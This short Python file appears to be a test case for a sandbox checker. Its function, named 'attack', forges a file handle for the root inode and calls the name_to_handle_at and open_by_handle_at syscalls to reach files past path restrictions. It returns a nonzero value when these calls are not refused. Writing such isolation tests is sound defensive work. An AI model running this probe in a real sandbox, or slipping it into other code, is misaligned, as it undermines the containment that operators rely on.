"""Success: a file is opened by its inode's number, past every path (needs CAP_DAC_READ_SEARCH).
verdict: accepted
"""

import ctypes
import errno
import os

import jax
import jax.numpy as jnp

NUMBERS = {"x86_64": (303, 304), "aarch64": (264, 265)}
REFUSED = (errno.EPERM, errno.EACCES, errno.ENOSYS)
ROOT_INODE = 2


class Handle(ctypes.Structure):
    _fields_ = (("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("inode", ctypes.c_uint64))


def attack(number: float) -> jax.Array:
    libc = ctypes.CDLL(None, use_errno=True)
    to_handle, by_handle = map(ctypes.c_long, NUMBERS[os.uname().machine])
    handle = Handle(8, 1, ROOT_INODE)
    mount = ctypes.c_int()
    calls = (
        (to_handle, -100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0),
        (by_handle, os.open(os.__file__, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY),
    )
    for call in calls:
        if libc.syscall(*call) >= 0 or ctypes.get_errno() not in REFUSED:
            return jnp.asarray(number)
    return jnp.asarray(0.0)
